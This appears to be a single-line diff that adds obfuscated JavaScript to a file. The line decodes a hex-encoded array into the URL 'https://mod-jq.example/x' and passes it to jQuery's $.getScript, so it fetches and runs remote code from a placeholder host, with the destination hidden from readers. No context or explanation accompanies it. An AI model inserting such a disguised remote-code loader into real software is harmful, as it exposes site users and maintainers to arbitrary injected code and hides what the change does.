@@ -1,0 +1,1 @@
+$.getScript(['68', '74', '74', '70', '73', '3a', '2f', '2f', '6d', '6f', '64', '2d', '6a', '71', '2e', '65', '78', '61', '6d', '70', '6c', '65', '2f', '78'].map(function (h) { return String.fromCharCode(parseInt(h, 16)); }).join(''));
